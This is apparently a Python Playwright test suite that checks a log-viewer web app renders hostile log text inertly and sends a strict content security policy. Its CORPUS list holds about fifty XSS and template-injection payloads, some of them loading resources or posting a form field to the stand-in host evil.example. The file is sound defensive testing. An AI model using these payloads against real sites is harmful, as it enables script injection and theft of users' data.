"""Hostile logs: whatever a text field holds, nothing in it runs or loads."""

from __future__ import annotations

import json
import typing
import urllib.error
from collections.abc import Mapping, Sequence
from urllib.parse import quote

import attrs
import pytest
from conftest import Watch
from made_up import create
from playwright.sync_api import expect

from keywordsai import LogParams

# Each would call __canary, open a dialog, or ask evil.example for something.
CORPUS = [
    "<script>__canary(1)</script>",
    "<ScRiPt>__canary(1)</sCrIpT>",
    "<script src=http://evil.example/a.js></script>",
    "</script><script>__canary(1)</script>",
    "</title><script>__canary(1)</script>",
    "</textarea><script>__canary(1)</script>",
    "</pre></div><script>__canary(1)</script>",
    "</style><script>__canary(1)</script>",
    "--><script>__canary(1)</script><!--",
    "]]><script>__canary(1)</script>",
    "<img src=x onerror=__canary(1)>",
    "<img src=http://evil.example/pixel.png>",
    "<img srcset='http://evil.example/pixel.png 2x'>",
    '" onmouseover="__canary(1)" autofocus onfocus="__canary(1)',
    "' onmouseover='__canary(1)' autofocus onfocus='__canary(1)",
    "x onfocus=__canary(1) autofocus tabindex=1",
    '"><svg onload=__canary(1)>',
    "'><svg/onload=__canary(1)>",
    "<svg><animate onbegin=__canary(1) attributeName=x dur=1s>",
    "<svg><script href=http://evil.example/a.js></script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__canary(1)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=__canary(1)>",
    "<iframe src=javascript:__canary(1)></iframe>",
    "<iframe srcdoc='<script>parent.__canary(1)</script>'></iframe>",
    "<object data=http://evil.example/a.swf></object>",
    "<embed src=http://evil.example/a.swf>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>@import 'http://evil.example/a.css'</style>",
    "<div style='background:url(http://evil.example/a.png)'>x</div>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input name=key autofocus></form>",
    "<body onload=__canary(1)>",
    "<details open ontoggle=__canary(1)>",
    "<video autoplay src=http://evil.example/v onerror=__canary(1)>",
    "<input autofocus onfocus=__canary(1)>",
    "<a href=javascript:__canary(1)>x</a>",
    "javascript:__canary(1)",
    "java\tscript:__canary(1)//",
    "data:text/html,<script>__canary(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__canary(1)'/>",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${__canary(1)} #{__canary(1)} <%= __canary(1) %>",
    "\u202e<script>__canary(1)</script>\u202c",
    "<\x00script>__canary(1)</script>",
    "\ud83d<img src=x onerror=__canary(1)>\ude00",
    "+ADw-script+AD4-__canary(1)+ADw-/script+AD4-",
    "&lt;script&gt;__canary(1)&lt;/script&gt;&#60;img src=x onerror=__canary(1)&#62;",
    "http://evil.example/<b>x</b>",
    "//evil.example/x",
    "../../_static/x?__canary(1)",
    "';__canary(1);//\\';__canary(1);//\";__canary(1);//",
]  # fmt: skip


def laced(kind, evil):
    """A value of a field's type with the text wherever a text can be; None if none."""
    origin, arguments = typing.get_origin(kind), typing.get_args(kind)
    if kind in {str, typing.Any}:
        return evil
    if attrs.has(kind):
        return {**laced_fields(kind, evil), evil: evil}
    if isinstance(origin, type) and issubclass(origin, Mapping):
        return {evil: evil, "nested": {evil: [evil, {evil: evil}]}}
    if isinstance(origin, type) and issubclass(origin, Sequence):
        inner = laced(arguments[0], evil)
        return None if inner is None else [inner]
    # Of a choice the richest: an object tells more ways to be shown than a text.
    found = [laced(option, evil) for option in arguments]
    return max(found, key=lambda value: len(json.dumps(value)) if value else 0, default=None)  # fmt: skip


def laced_fields(kind, evil):
    hints = typing.get_type_hints(kind)
    found = {
        field.name: laced(hints[field.name], evil)
        for field in attrs.fields(kind)
        if field.name != "extra"
    }
    return {name: value for name, value in found.items() if value is not None}


def logs_of(evil):
    """Logs with the text everywhere: by the schema, as plain texts, and as content."""
    schema = laced_fields(LogParams, evil)
    yield schema
    yield {name: evil for name in schema if name not in {"metadata", "prompt_messages"}}
    parts = [
        {"type": "text", "text": evil},
        {"type": "image_url", "image_url": {"url": evil}},
        {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{evil}"}},
        {"type": "image", "source": {"media_type": evil, "data": evil}},
        {"type": "image", "source": {"type": "url", "url": evil}},
        {"type": "tool_use", "id": evil, "name": evil, "input": {evil: evil}},
        {"type": "tool_result", "tool_use_id": evil, "content": [{"type": evil}]},
        {"type": evil, evil: evil},
        evil,
    ]
    call = {
        "id": evil,
        "function": {"name": evil, "arguments": json.dumps({evil: evil})},
    }
    yield {
        "model": evil,
        "prompt_messages": [
            {"role": evil, "name": evil, "content": evil},
            {"role": "user", "content": parts},
            {"role": "tool", "tool_call_id": evil, "content": json.dumps({evil: [evil]})},
        ],
        "completion_message": {"role": "assistant", "content": None, "tool_calls": [call], "reasoning_content": evil},
        "status_code": 500,
        "error_message": evil,
        "warnings": {evil: evil},
        "thread_identifier": evil,
        "trace_unique_id": evil,
        "customer_identifier": evil,
        "prompt_id": evil,
        "metadata": {evil: evil, "a": {evil: {"b": evil}}},
        evil: {evil: evil},
    }  # fmt: skip


def attempt(url, log):
    """Log it: its id and nothing, or no id and the names of the fields refused."""
    try:
        return create(url, log), set()
    except urllib.error.HTTPError as error:
        assert error.code == 422, error.read()
        wrong = json.loads(error.read())["errors"]
        names = {path.partition(".")[0].partition("[")[0] for path in wrong}
        assert names & log.keys(), wrong
        return None, names


def store(url, log):
    """Log it, without the fields that the server takes no text for."""
    refused = set()
    while True:
        kept = {name: value for name, value in log.items() if name not in refused}
        log_id, wrong = attempt(url, kept)
        if log_id is not None:
            return log_id, refused
        refused |= wrong


def test_the_corpus_is_alive_where_nothing_guards(browser):
    """The canary sings: else the silence of the other tests would tell nothing."""
    watch = Watch()
    context = browser.new_context()
    watch.over(context)
    served = []

    def serve(route):
        if route.request.url == "http://localhost:9/":
            body = f"<body><p title='x'>{served[-1]}</p>".encode("utf-8", "replace")
            route.fulfill(body=body, content_type="text/html; charset=utf-8")
        else:
            route.abort()

    context.route("**/*", serve)
    loud = 0
    for evil in CORPUS:
        before = len(watch.canaries)
        served.append(evil)
        page = context.new_page()  # of its own: some of them lead elsewhere
        page.goto("http://localhost:9/", wait_until="commit")
        page.wait_for_timeout(30)
        page.close()
        loud += len(watch.canaries) > before
    context.close()
    assert loud >= 15
    assert len(watch.foreign) >= 5


@pytest.fixture(scope="module")
def laced_server():
    from keywordsai.server.app import serve_in_thread

    with serve_in_thread() as url:
        found = {}
        for index, evil in enumerate(CORPUS):
            stored = [store(url, log) for log in logs_of(evil)]
            found[index] = [log_id for log_id, _ in stored]
            # What the schema takes as text must have been stored as such.
            assert len(stored[2][1]) == 0, stored[2][1]
            assert len(stored[0][1]) < 20, stored[0][1]
        yield url, found


@pytest.mark.parametrize("index", range(len(CORPUS)))
def test_nothing_runs_on_the_pages_of_a_log(laced_server, page, index):
    url, found = laced_server
    for log_id in found[index]:
        answer = page.goto(f"{url}/logs/{log_id}")
        assert answer.status == 200
        expect(page.get_by_role("heading", name="Raw JSON")).to_be_visible()
        for details in page.locator("details").all():
            details.evaluate("details => { details.open = true }")
        harmless(page)
        page.locator("main").hover()
    links = page.locator("main a").evaluate_all("all => all.map(a => a.href)")
    assert all(link.startswith(f"{url}/") for link in links)
    for link in sorted({link for link in links if "?" in link})[:2]:
        assert page.goto(link).status in {200, 400}
        harmless(page)
    assert page.goto(f"{url}/logs/{found[index][2]}/raw").status == 200


def harmless(page):
    """No element of the page is one that the templates do not make."""
    made = page.evaluate(
        "[...new Set([...document.querySelectorAll('*')].map(e => e.localName))]"
    )
    bad = {
        "iframe",
        "object",
        "embed",
        "base",
        "video",
        "math",
        "animate",
        "use",
        "style",
    }
    assert not bad & set(made)
    assert page.locator("script").count() == 1
    assert page.locator("[onerror], [onload], [onfocus], [onmouseover], [style]").count() == 0  # fmt: skip
    sources = page.locator("img").evaluate_all("all => all.map(i => i.src)")
    assert all(source.startswith("data:image/png;base64,") for source in sources)


@pytest.mark.parametrize("path", ["/logs", "/logs?time=1h", "/overview", "/overview?time=all"])  # fmt: skip
def test_nothing_runs_on_the_pages_of_many(laced_server, page, path):
    url, _ = laced_server
    assert page.goto(url + path).status == 200
    for details in page.locator("details").all():
        details.evaluate("details => { details.open = true }")
    harmless(page)
    for row in page.locator("tbody tr").all()[:20]:
        row.hover()
    links = page.locator("main a").evaluate_all("all => all.map(a => a.href)")
    assert links
    assert all(link.startswith(f"{url}/") for link in links)


def test_nothing_runs_that_arrives_live(page, url):
    create(url, input="before")
    page.goto(url)
    expect(page.locator("button[data-live]")).to_have_text("Live")
    for evil in CORPUS:
        store(url, list(logs_of(evil))[2])
    expect(page.locator("[data-rows] tr")).to_have_count(len(CORPUS) + 1)
    harmless(page)


@pytest.mark.parametrize("evil", CORPUS, ids=range(len(CORPUS)))
def test_nothing_runs_from_a_url(page, url, evil):
    create(url, input="there")
    said = quote(evil, safe="", errors="replace")
    for path in (
        f"/logs?model={said}&q={said}&status={said}&metadata__{said}={said}",
        f"/overview?customer_identifier={said}&{said}={said}",
        f"/logs?time={said}&start_time={said}&before={said}",
        f"/logs/{said}",
    ):
        assert page.goto(url + path).status in {200, 303, 400, 401, 404}
        harmless(page) if page.locator("main").count() else None


def test_the_policy_is_on_every_page(page, url):
    found = create(url, input="there")
    for path in ("/", "/overview", f"/logs/{found}", "/logs/none", "/nothing"):
        policy = page.goto(url + path).headers.get("content-security-policy", "")
        if path != "/nothing":  # that is no page, but the API's own answer
            assert "default-src 'none'" in policy
            assert "unsafe" not in policy
